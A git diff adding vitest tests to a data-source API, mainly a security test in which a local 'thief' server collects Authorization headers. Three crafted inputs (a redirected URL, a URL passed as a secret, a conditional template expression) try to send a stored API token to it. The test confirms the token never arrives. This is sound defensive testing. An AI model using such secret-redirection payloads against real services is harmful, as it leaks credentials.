@@ -1,3 +1,6 @@
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { onTestFinished, expect, test } from 'vitest'
 import { startRegistrationSystem } from '../../examples/registration/server.ts'
 import { testServer } from '../server/testing.ts'
@@ -6,10 +9,10 @@ import { createGuard } from './http/guard.ts'
 import { sourceRoomEndpoints } from './room-routes.ts'
 import { sourceEndpoints } from './routes.ts'
 
-async function room() {
+async function room(thief?: string) {
   const system = await startRegistrationSystem({ people: 60, throttleEvery: null })
   onTestFinished(() => system.stop())
-  const guard = createGuard({ allow: [new URL(system.url).host] })
+  const guard = createGuard({ allow: [new URL(system.url).host, ...(thief ? [thief] : [])] })
   onTestFinished(() => guard.close())
   const server = await testServer((services) => ({
     ...sourceEndpoints({ ...services, guard }),
@@ -156,4 +159,79 @@ test('the client reads the description and changes nothing', async () => {
     body: { path: 'name', never: true },
   })
   await expect(marking).rejects.toMatchObject({ code: 'not_allowed' })
+})
+
+test.each<
+  [string, (thief: string) => { form?: Partial<SourceForm>; secrets?: Record<string, string> }]
+>([
+  ['the form names another address', (thief) => ({ form: { url: `${thief}/steal` } })],
+  ['the address comes in as a secret', (thief) => ({ secrets: { url: `${thief}/steal` } })],
+  [
+    'the address waits for the secret',
+    (thief) => ({ form: { url: `{{ '${thief}' if config['api_token'] else config['url'] }}` } }),
+  ],
+])('a try gives a stored secret to its own origin alone: %s', async (_what, attack) => {
+  const stolen: string[] = []
+  const thief = createServer((request, response) => {
+    stolen.push(String(request.headers.authorization))
+    response.end('{"count": 1, "next": null, "results": [{"id": 1}]}')
+  }).listen(0, '127.0.0.1')
+  onTestFinished(() => void thief.close())
+  await once(thief, 'listening')
+  const place = `127.0.0.1:${(thief.address() as AddressInfo).port}`
+  const world = await room(place)
+  const { engineer, project, system, db } = world
+  const { source } = await saved(world)
+  await engineer.call('PUT /api/projects/:project/sources/:source/bindings/:environment', {
+    params: { project, source, environment: 'dev' },
+    body: { config: { url: system.ordersUrl }, secrets: { api_token: system.token } },
+  })
+  const attempt = (changed: Partial<SourceForm>, secrets: Record<string, string>) =>
+    engineer.call('POST /api/projects/:project/try', {
+      params: { project },
+      body: { form: { ...form, ...changed }, url: system.ordersUrl, secrets, source },
+    })
+  const right = await attempt({}, {})
+  expect(right.error).toBeNull()
+  const { form: changed = {}, secrets = {} } = attack(`http://${place}`)
+  await attempt(changed, secrets).catch((refused: unknown) => refused)
+  expect(stolen.join(' ')).not.toContain(system.token)
+  const entries = await db
+    .selectFrom('audit_entries')
+    .select(['subject_id', 'commitment'])
+    .where('event', '=', 'source.asked')
+    .execute()
+  expect(entries[0]).toEqual({ subject_id: source, commitment: null })
+})
+
+test('a definition that is no YAML is refused in a sentence, for a file too', async () => {
+  const { engineer, project } = await room()
+  const { sourceId: source } = await engineer.call('POST /api/projects/:project/sources', {
+    params: { project },
+    body: { kind: 'file', name: 'List', key: ['Reg no'] },
+  })
+  const change = (definition: string) =>
+    engineer.call('PUT /api/projects/:project/sources/:source', {
+      params: { project, source },
+      body: { name: 'List', definition },
+    })
+  await expect(change('a: [')).rejects.toMatchObject({ code: 'invalid' })
+  await expect(change('[]')).rejects.toMatchObject({ code: 'invalid' })
+  await expect(change('? '.repeat(5_000))).rejects.toMatchObject({ code: 'invalid' })
+})
+
+test('a secret without an address that it is for is refused in a sentence', async () => {
+  const world = await room()
+  const params = await saved(world)
+  const binding = world.engineer.call(
+    'PUT /api/projects/:project/sources/:source/bindings/:environment',
+    {
+      params: { ...params, environment: 'dev' },
+      body: { config: {}, secrets: { api_token: 's3cret' } },
+    },
+  )
+  await expect(binding).rejects.toMatchObject({
+    code: 'invalid',
+    message: "The source needs 'url', which has no value yet. Enter it.",
+  })
 })
